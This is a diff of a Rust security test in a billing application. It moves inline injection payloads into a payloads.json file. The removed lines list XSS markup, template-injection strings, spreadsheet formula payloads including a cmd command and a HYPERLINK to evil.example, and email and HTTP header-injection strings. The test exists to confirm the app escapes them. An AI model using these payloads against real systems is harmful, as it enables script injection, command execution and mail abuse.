@@ -8,6 +8,7 @@ use billing::{
     payments::{Method, PayBill},
     testing::people::{Browser, PASSWORD},
 };
+use serde::Deserialize;
 use serde_json::json;
 use sqlx::PgPool;
 
@@ -16,78 +17,29 @@ use crate::desk::{Answer, Cookie, Portal, encoded};
 /// In every payload, and nowhere in what we write.
 const MARK: &str = "pwn";
 
-const MARKUP: [&str; 26] = [
-    "<script>pwn()</script>",
-    "<script src=//evil.example/pwn></script>",
-    "<img src=x onerror=pwn()>",
-    "<svg/onload=pwn()>",
-    "<svg><script>pwn()</script></svg>",
-    "<body onload=pwn()>",
-    "<iframe srcdoc='<script>pwn()</script>'>",
-    "<a href=javascript:pwn()>x</a>",
-    "<form action=//evil.example/pwn><button>x",
-    "<input autofocus onfocus=pwn()>",
-    "<details open ontoggle=pwn()>",
-    "<style>@import'//evil.example/pwn'</style>",
-    "<link rel=stylesheet href=//evil.example/pwn>",
-    "<meta http-equiv=refresh content='0;//evil.example/pwn'>",
-    "<base href=//evil.example/pwn>",
-    "<math><mi xlink:href='data:x,<script>pwn()</script>'>",
-    "<leptos-island data-component=pwn data-props='{}'>",
-    "<object data=//evil.example/pwn>",
-    "<template><script>pwn()</script></template>",
-    "<!--pwn",
-    "<!pwn>",
-    "<pwn",
-    "&lt;script&gt;pwn()&lt;/script&gt;",
-    "&#60;script&#62;pwn()",
-    "\u{ff1c}script\u{ff1e}pwn()",
-    "javascript:pwn()",
-];
-
-/// What ends the place a text stands in, before each of them.
-const ENDS: [&str; 9] = ["", "\">", "'>", "</title>", "</textarea>", "-->", "</script>", "\" ", "]]>"];
-
-const TEMPLATES: [&str; 16] = [
-    "{{7*7}}pwn",
-    "${7*7}pwn",
-    "<%= 7*7 %>pwn",
-    "#{7*7}pwn",
-    "{ $amount }pwn",
-    "{ answer-home }pwn",
-    "{\"x\"}pwn",
-    "%s%n%x pwn",
-    "{}{0}{pwn}",
-    "\\u003cscript\\u003epwn()",
-    "\\x3cscript>pwn()",
-    "{%pwn%}",
-    "$(pwn)",
-    "`pwn`",
-    "';pwn();//",
-    "\"-pwn()-\"",
-];
-
-/// What a spreadsheet may run, behind every sign it takes for a beginning.
-const SIGNS: [&str; 12] = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "|", "%", "\u{ff1d}", "\u{feff}="];
-const FORMULAS: [&str; 4] =
-    ["cmd|'/C pwn'!A0", "HYPERLINK(\"//evil.example/pwn\")", "1+1;pwn", "SUM(1,2)pwn"];
-
-const HEADERS: [&str; 8] = [
-    "x\r\nBcc: pwn@evil.example",
-    "x\nSubject: pwn",
-    "x\r\n\r\n<b>pwn",
-    "x\r\nSet-Cookie: session=pwn",
-    "x%0d%0aLocation: //evil.example/pwn",
-    "x\u{85}Bcc: pwn@evil.example",
-    "x\u{2028}Bcc: pwn@evil.example",
-    "\"pwn\" <pwn@evil.example>",
-];
+/// `payloads.json`, which the journeys store and look at in a browser, too.
+#[derive(Deserialize)]
+struct Payloads {
+    markup: Vec<String>,
+    /// What ends the place a text stands in, before each of them.
+    ends: Vec<String>,
+    templates: Vec<String>,
+    /// What a spreadsheet may run, behind every sign it takes for a beginning.
+    signs: Vec<String>,
+    formulas: Vec<String>,
+    headers: Vec<String>,
+}
 
 fn payloads() -> Vec<String> {
-    let markup = MARKUP.iter().flat_map(|text| ENDS.map(|end| format!("{end}{text}")));
-    let formulas = SIGNS.iter().flat_map(|sign| FORMULAS.map(|formula| format!("{sign}{formula}")));
-    let whole = TEMPLATES.iter().chain(&HEADERS).map(|text| (*text).to_owned());
-    markup.chain(formulas).chain(whole).collect()
+    let parts: Payloads = serde_json::from_str(include_str!("payloads.json")).expect("a list");
+    let each = |befores: &[String], afters: &[String]| -> Vec<String> {
+        afters.iter().flat_map(|after| befores.iter().map(move |before| format!("{before}{after}"))).collect()
+    };
+    let mut all = each(&parts.ends, &parts.markup);
+    all.extend(each(&parts.signs, &parts.formulas));
+    all.extend(parts.templates);
+    all.extend(parts.headers);
+    all
 }
 
 /// A page as a browser's tokenizer reads it: what it says, and what is wrong with it.
